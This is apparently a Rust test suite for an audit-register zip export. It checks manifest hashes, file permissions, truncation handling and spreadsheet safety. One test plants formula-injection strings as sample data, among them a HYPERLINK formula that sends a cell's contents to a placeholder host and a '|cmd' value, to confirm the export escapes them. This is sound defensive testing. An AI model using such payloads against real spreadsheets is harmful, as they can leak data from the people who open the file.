//! What is taken away: read with Python's own libraries, compared with its
//! manifest, and cut off in the middle.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Output};

use commonhold::audit::registers::all;
use commonhold::db::Role;
use diesel_async::SimpleAsyncConnection;

use super::{auditor, texts};
use crate::support::certified::Certified;
use crate::support::election::{ADA, CHI, Foundation, NO_LIMITS, Place};
use crate::support::{TestApp, Visitor, eventually, program};

/// Reads an archive as anybody would who has Python: every member whole, every
/// hash as the manifest says, and each register the same in both its files.
const READ: &str = r#"
import csv, hashlib, io, json, sys, zipfile
archive = zipfile.ZipFile(sys.argv[1])
assert archive.testzip() is None
names = archive.namelist()
assert names[0] == 'README.txt' and names[-1] == 'manifest.json', names
raw = archive.read('manifest.json')
manifest = json.loads(raw)
canonical = json.dumps(manifest, sort_keys=True, separators=(',', ':'), ensure_ascii=False)
assert canonical.encode() == raw, 'not canonical'
assert [file['name'] for file in manifest['files']] == names[:-1]
seen = {}
for file in manifest['files']:
    data = archive.read(file['name'])
    assert len(data) == file['bytes'], file
    assert hashlib.sha256(data).hexdigest() == file['sha256'], file
    seen[file['name']] = file.get('rows')
    text = data.decode('utf-8')
    if file['name'].endswith('.csv'):
        assert text.count('\r\n') > 0 and text.endswith('\r\n')
        rows = list(csv.reader(io.StringIO(text, newline=''), strict=True))
        assert len(rows) == file['rows'] + 1, file
        lines = archive.read(file['name'][:-4] + '.jsonl').decode('utf-8').split('\n')
        assert lines.pop() == ''
        objects = [json.loads(line) for line in lines]
        assert len(objects) == file['rows'], file
        for row, found in zip(rows[1:], objects):
            assert len(row) == len(rows[0]) == len(found), (row, found)
            for cell, value in zip(row, found.values()):
                if not (isinstance(value, (int, float)) and not isinstance(value, bool)):
                    assert not cell.startswith(('=', '+', '-', '@', '\t', '\r', '\n')), cell
                if isinstance(value, str):
                    assert cell in (value, "'" + value), (cell, value)
                if isinstance(value, int) and not isinstance(value, bool):
                    assert cell == str(value), (cell, value)
assert manifest['kind'] == 'registers' and manifest['as_of'].endswith('Z')
print(json.dumps({'manifest': manifest, 'sha256': hashlib.sha256(raw).hexdigest()}))
"#;

/// Whether Python takes a file for an archive at all.
const OPEN: &str = "import sys, zipfile\nzipfile.ZipFile(sys.argv[1])";

fn python(script: &str, file: &Path) -> Output {
    let mut command = Command::new("python3");
    command.args(["-I", "-c", script]).arg(file);
    command.output().unwrap()
}

/// The manifest of an archive that is all it should be, and its hash.
pub fn read(file: &Path) -> serde_json::Value {
    let output = python(READ, file);
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    serde_json::from_slice(&output.stdout).unwrap()
}

/// The archive as the room hands it out.
pub async fn taken(visitor: &Visitor) -> Vec<u8> {
    let address = visitor.address("/audit/registers.zip");
    let answer = visitor.client().get(address).send().await.unwrap();
    assert_eq!(answer.status(), 200);
    assert_eq!(answer.headers()["content-type"], "application/zip");
    answer.bytes().await.unwrap().to_vec()
}

/// `commonhold export registers` as an auditor runs it, under the umask that people have.
fn export(app: &TestApp, out: &Path) -> Output {
    Command::new("sh")
        .args(["-c", "umask 022; exec \"$@\"", "sh"])
        .arg(program())
        .args(["export", "registers", "--out"])
        .arg(out)
        .arg("--data")
        .arg(app.folder("auditor"))
        .env_remove("DATABASE_URL")
        .env(
            "COMMONHOLD_AUDITOR_URL",
            app.database.address(Role::Auditor).url_with_credentials(),
        )
        .output()
        .unwrap()
}

/// The files of a manifest by name, but for those that differ from one export
/// to the next.
pub fn files(read: &serde_json::Value) -> Vec<(String, String)> {
    let files = read["manifest"]["files"].as_array().unwrap();
    let text = |file: &serde_json::Value, key: &str| file[key].as_str().unwrap().to_owned();
    files
        .iter()
        .map(|file| (text(file, "name"), text(file, "sha256")))
        .filter(|(name, _)| name != "README.txt" && !name.starts_with("auditors-views"))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_is_what_its_manifest_says_and_is_recorded() {
    let vote = Certified::vote(async |_: &TestApp, _: &Foundation, _| {}).await;
    let nia = auditor(&vote.foundation).await;
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("registers.zip");
    std::fs::write(&file, taken(&nia).await).unwrap();
    let found = read(&file);
    let manifest = &found["manifest"];
    assert_eq!(manifest["foundation"], "Tamarack OS Foundation");
    assert!(
        manifest["exported_by"]
            .as_str()
            .unwrap()
            .starts_with("Nia Dossou, auditor, ")
    );
    let listed = manifest["files"].as_array().unwrap();
    assert_eq!(listed.len(), 2 * all().count() + 1);
    let rows = |name: &str| {
        let mut files = listed.iter().filter(|file| file["name"] == name);
        files.next().unwrap()["rows"].as_u64().unwrap()
    };
    for (name, expected) in [("members.csv", 10), ("polls.jsonl", 1), ("closings.csv", 1)] {
        assert_eq!(rows(name), expected, "{name}");
    }
    assert_eq!((rows("certifications.csv"), rows("results.csv")), (2, 1));
    // The log's size and root are those of a checkpoint in the same export.
    let mut administrator = vote.app.database.administrator().await;
    let root = format!(
        "SELECT encode(root, 'hex') AS it FROM log_checkpoints WHERE size = {}",
        manifest["log"]["size"]
    );
    let root = texts(&mut administrator, &root).await;
    assert_eq!(root, [manifest["log"]["root"].as_str().unwrap()]);

    // Two rows: what was begun, and that it was made whole with this manifest.
    let recorded = "SELECT v.what || coalesce(' ' || encode(v.manifest_sha256, 'hex'), '') AS it
        FROM auditor_views v WHERE v.what LIKE 'export%' ORDER BY v.number";
    let whole = format!("exported {}", found["sha256"].as_str().unwrap());
    assert_eq!(
        texts(&mut administrator, recorded).await,
        ["export".to_owned(), whole]
    );
    let views = vote.foundation.chi.get("/audit/views").await;
    let shown = views.text().replace(' ', "");
    assert!(shown.contains(found["sha256"].as_str().unwrap()), "{shown}");

    // On the command line the same, whole or not at all, and over nothing.
    let exported = folder.path().join("exported.zip");
    let done = export(&vote.app, &exported);
    assert!(done.status.success(), "{done:?}");
    let again = read(&exported);
    let said = String::from_utf8_lossy(&done.stdout).into_owned();
    assert!(said.contains(again["sha256"].as_str().unwrap()), "{said}");
    assert!(
        again["manifest"]["exported_by"]
            .as_str()
            .unwrap()
            .contains("commonhold_auditor")
    );
    assert_eq!(files(&again), files(&found));
    let about = std::fs::metadata(&exported).unwrap();
    assert_eq!(about.permissions().mode() & 0o777, 0o600, "others read it");
    let bytes = std::fs::read(&exported).unwrap();
    assert_eq!(export(&vote.app, &exported).status.code(), Some(2));
    assert!(
        std::fs::read(&exported).unwrap() == bytes,
        "an export overwrote a file"
    );
    let unwritable = folder.path().join("missing").join("x.zip");
    assert_eq!(export(&vote.app, &unwritable).status.code(), Some(2));
    let mut left: Vec<_> = std::fs::read_dir(folder.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    left.sort();
    assert_eq!(left, ["exported.zip", "registers.zip"]);

    // Cut off anywhere, it is no archive.
    let cut = folder.path().join("cut.zip");
    for eighth in 0..8 {
        for less in [1, 23, 500] {
            let end = (bytes.len() * (eighth + 1) / 8).saturating_sub(less);
            std::fs::write(&cut, &bytes[..end]).unwrap();
            let opened = python(OPEN, &cut);
            let said = String::from_utf8_lossy(&opened.stderr);
            assert!(
                !opened.status.success() && said.contains("BadZipFile"),
                "{end}: {said}"
            );
        }
    }
}

/// What is typed in as a name or a reason is text in every file.
#[tokio::test(flavor = "multi_thread")]
async fn what_looks_like_a_formula_is_text_in_a_spreadsheet() {
    let app = TestApp::start_with(&NO_LIMITS).await;
    let foundation = Foundation::found(Place::of_app(&app)).await;
    let nia = auditor(&foundation).await;
    let formula = "=HYPERLINK(\"http://elsewhere.example/\"&A1,\"look\")";
    let mut administrator = app.database.administrator().await;
    for begin in [
        formula,
        "+1+1",
        "-2+3|cmd",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\"quoted\", \r\nand broken",
    ] {
        let insert = format!(
            "INSERT INTO affiliations (person, employer, starts_on)
             SELECT id, $it${begin}$it$, '1999-01-01' FROM parties WHERE kind = 'person' LIMIT 1"
        );
        administrator.batch_execute(&insert).await.unwrap();
    }
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("registers.zip");
    std::fs::write(&file, taken(&nia).await).unwrap();
    // That no cell begins like a formula and every value is kept is checked there.
    read(&file);
    let script = "import csv, io, json, sys, zipfile
archive = zipfile.ZipFile(sys.argv[1])
rows = csv.DictReader(io.StringIO(archive.read('affiliations.csv').decode(), newline=''))
print(json.dumps([row['Employer'] for row in rows if row['From'] == '1999-01-01']))
found = [json.loads(line) for line in archive.read('affiliations.jsonl').decode().split('\\n') if line]
print(json.dumps([row['employer'] for row in found if row['starts_on'] == '1999-01-01']))";
    let output = python(script, &file);
    assert!(output.status.success(), "{output:?}");
    let said = String::from_utf8(output.stdout).unwrap();
    let (cells, values) = said.split_once('\n').unwrap();
    let cells: Vec<String> = serde_json::from_str(cells).unwrap();
    let values: Vec<String> = serde_json::from_str(values).unwrap();
    assert_eq!(values[0], formula);
    assert_eq!(values.len(), 7);
    for (cell, value) in cells.iter().zip(&values) {
        let kept = if value.starts_with('"') {
            value.clone()
        } else {
            format!("'{value}")
        };
        assert_eq!(*cell, kept);
    }
}

/// A fault on the way cuts the connection: no reader takes what came for whole,
/// and nothing says that it was.
#[tokio::test(flavor = "multi_thread")]
async fn an_export_that_fails_on_the_way_is_cut_off() {
    let app = TestApp::start_with(&NO_LIMITS).await;
    let foundation = Foundation::found(Place::of_app(&app)).await;
    let nia = auditor(&foundation).await;
    let mut administrator = app.database.administrator().await;
    let mut holding = app.database.administrator().await;
    administrator
        .batch_execute(
            "INSERT INTO affiliations (person, employer)
             SELECT (SELECT id FROM parties WHERE kind = 'person' LIMIT 1),
                    (SELECT string_agg(md5(n::text || i::text), '') FROM generate_series(1, 100) i)
             FROM generate_series(1, 400) n",
        )
        .await
        .unwrap();
    // Much is read before this table, which nobody may look at for now.
    holding
        .batch_execute("BEGIN; LOCK TABLE officer_key_uploads IN ACCESS EXCLUSIVE MODE")
        .await
        .unwrap();
    let waiting = "SELECT pid::text AS it FROM pg_stat_activity
        WHERE usename = 'commonhold_auditor' AND datname = current_database() AND wait_event_type = 'Lock'";
    let address = nia.address("/audit/registers.zip");
    let mut answer = nia.client().get(address).send().await.unwrap();
    assert_eq!(answer.status(), 200);
    let pid = eventually("an export that waits", async || {
        texts(&mut administrator, waiting).await.pop()
    })
    .await;
    let end = format!("SELECT pg_terminate_backend({pid})");
    administrator.batch_execute(&end).await.unwrap();
    let mut came: Vec<u8> = Vec::new();
    let ended = loop {
        match answer.chunk().await {
            Ok(Some(chunk)) => came.extend_from_slice(&chunk),
            Ok(None) => break Ok(()),
            Err(error) => break Err(error),
        }
    };
    assert!(
        ended.is_err(),
        "{} bytes came to an orderly end",
        came.len()
    );
    assert!(
        came.starts_with(b"PK") && came.len() > 100_000,
        "{} bytes came, then {ended:?}",
        came.len()
    );
    let folder = tempfile::tempdir().unwrap();
    let cut = folder.path().join("cut.zip");
    std::fs::write(&cut, &came).unwrap();
    assert!(!python(OPEN, &cut).status.success());
    holding.batch_execute("ROLLBACK").await.unwrap();

    let recorded = "SELECT what AS it FROM auditor_views ORDER BY number";
    assert_eq!(texts(&mut administrator, recorded).await, ["export"]);
    assert!(app.log().contains("an export was cut off"), "{}", app.log());
    // The connection that was lost does not come back, and the room is open.
    let bytes = taken(&nia).await;
    std::fs::write(&cut, &bytes).unwrap();
    read(&cut);
    assert_eq!(
        texts(&mut administrator, recorded).await,
        ["export", "export", "exported"]
    );
}

/// One file of an archive, whose name ends so, as text.
pub fn member(file: &Path, end: &str) -> String {
    let script = format!(
        "import sys, zipfile\narchive = zipfile.ZipFile(sys.argv[1])\n\
         names = [name for name in archive.namelist() if name.endswith('{end}')]\n\
         name = min(names, key=len)\n\
         sys.stdout.buffer.write(archive.read(name))"
    );
    let output = python(&script, file);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// Takes the registers as an auditor and finds in each of these a row with these words.
pub async fn reads_back(foundation: &Foundation, expected: &[(&str, &str)]) {
    reads_back_as(foundation, super::AUDITOR, expected).await;
}

/// The same as the auditor at this address: where [`super::AUDITOR`] is a director, who audits
/// nothing.
pub async fn reads_back_as(foundation: &Foundation, address: &str, expected: &[(&str, &str)]) {
    // Whoever came in at the beginning may be out by now.
    let place = &foundation.place;
    let (chi, ada) = (place.sign_in(CHI.1).await, place.sign_in(ADA.1).await);
    super::appointed_by(foundation, &chi, &ada, address).await;
    finds(&place.sign_in(address).await, expected).await;
}

/// An auditor takes the registers and finds in each of these a row with these words.
pub async fn finds(auditor: &Visitor, expected: &[(&str, &str)]) {
    let folder = tempfile::tempdir().unwrap();
    let zip = folder.path().join("registers.zip");
    std::fs::write(&zip, taken(auditor).await).unwrap();
    for (register, words) in expected {
        let held = member(&zip, &format!("{register}.jsonl"));
        assert!(
            held.lines().any(|row| row.contains(words)),
            "{register}: {words:?} is not in: {held}"
        );
    }
}
